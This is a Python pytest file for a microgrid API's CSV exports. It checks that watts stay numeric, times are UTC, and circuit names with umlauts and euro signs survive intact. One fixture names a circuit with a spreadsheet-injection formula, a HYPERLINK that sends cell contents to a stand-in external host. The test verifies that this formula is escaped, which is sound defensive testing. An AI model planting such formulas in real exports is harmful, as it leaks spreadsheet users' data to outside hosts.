"""Tables as a spreadsheet opens them (HTTP-19): numbers, times, names with any letter, and no formula of anybody's."""

import csv
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from adapters.clock import VirtualClock
from adapters.database.engine import create_engine
from adapters.database.read_model import SqlReadModel
from adapters.database.stored_events import SqlStoredEvents
from domain.events import Trigger
from domain.microgrid import Microgrid
from domain.site.configuration import Circuit
from entrypoints.api.read_side import ReadSide
from tests.databases import new_sqlite
from tests.integration.api.conftest import client_of
from tests.integration.api.depots import METRICS, add
from tests.unit.domain.depot import Depot, charger, grid

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1)'
HARMLESS = "Zähler „Süd“, 1\u20ac"


@pytest.fixture
def url(tmp_path: Path) -> str:
    return new_sqlite(tmp_path)


@pytest.fixture
async def client(url: str) -> AsyncIterator[httpx.AsyncClient]:
    """A depot that fed back and is over its limit now, which was lowered; its circuits have names chosen with care."""
    depot = Depot(grid("gc-1", 400_000, metered=True), grid("gc-2", 300_000), charger("cp-1", "gc-1", 80_000))
    circuits = (
        Circuit("gc-1", None, FORMULA, 200_000, None, metered=True),
        Circuit("gc-2", None, HARMLESS, 200_000),
    )
    configuration = replace(depot.configuration, version=2, circuits=circuits)
    clock = VirtualClock(depot.at)
    await add(url, Microgrid("depot").configure(depot.configuration, depot.at).events, clock)
    await decide(url, depot, -5_000)
    configured = depot.microgrid.configure(configuration, depot.at)
    depot.configuration, depot.microgrid = configuration, configured.microgrid
    await add(url, configured.events, clock)
    for load_w in (-5_000, 260_000, 260_000, 260_000):
        await decide(url, depot, load_w)
    engine = create_engine(url)
    clock.advance(depot.at)
    read_side = ReadSide(SqlReadModel(engine), SqlStoredEvents(engine), clock, lambda: METRICS, lambda: True)
    async with client_of(read_side) as client:
        yield client
    await engine.dispose()


async def decide(url: str, depot: Depot, load_w: int) -> None:
    """A cycle ten seconds later, in which the meter shows this."""
    depot.later(10)
    depot.hears("cp-1/1", 0)
    depot.meters("gc-1", load_w)
    decided = depot.microgrid.run_cycle(depot.readings, Trigger.MANUAL, depot.at)
    depot.microgrid = decided.microgrid
    await add(url, decided.events, VirtualClock(depot.at))


async def opened(client: httpx.AsyncClient, path: str) -> list[dict[str, str]]:
    """The cells of a table, in the dialect that spreadsheets have in common."""
    response = await client.get(f"/v1/microgrids/depot/{path}", headers={"Accept": "text/csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert not response.content.startswith(b"\xef\xbb\xbf")
    header, *lines = csv.reader(response.content.decode("utf-8").splitlines(keepends=True), "excel", strict=True)
    assert len(set(header)) == len(header)
    assert {len(line) for line in lines} == {len(header)}
    return [dict(zip(header, line, strict=True)) for line in lines]


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").isdecimal()


async def test_watts_are_numbers_below_zero_too_and_what_is_not_known_is_an_empty_cell(
    client: httpx.AsyncClient,
) -> None:
    rows = await opened(client, "history/gc-1")
    assert [row["measured_w"] for row in rows] == ["260000", "260000", "260000", "-5000", "-5000"]
    for row in [*rows, *await opened(client, "log"), *await opened(client, "history/gc-2")]:
        assert all(is_number(cell) for name, cell in row.items() if name.endswith(("_w", "_s")) and cell), row
    assert {row["measured_w"] for row in await opened(client, "history/gc-2")} == {""}


@pytest.mark.parametrize("path", ["history/gc-1", "log"])
async def test_a_time_is_there_as_spreadsheets_read_it_and_is_that_of_the_zone_it_names(
    client: httpx.AsyncClient, path: str
) -> None:
    rows = await opened(client, path)
    assert rows != []
    for row in rows:
        read = datetime.strptime(row["time_utc"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)
        assert read == datetime.fromisoformat(row["at"])


async def test_a_name_is_no_formula_and_keeps_its_letters(client: httpx.AsyncClient) -> None:
    rows = await opened(client, "log")
    sentences = [row["sentence"] for row in rows]
    assert any(each.startswith("'" + FORMULA) for each in sentences), sentences
    assert any(HARMLESS in each for each in sentences), sentences
    for row in rows:
        assert not [cell for cell in row.values() if cell[:1] in "=+-@\t\r\n" and cell and not is_number(cell)]
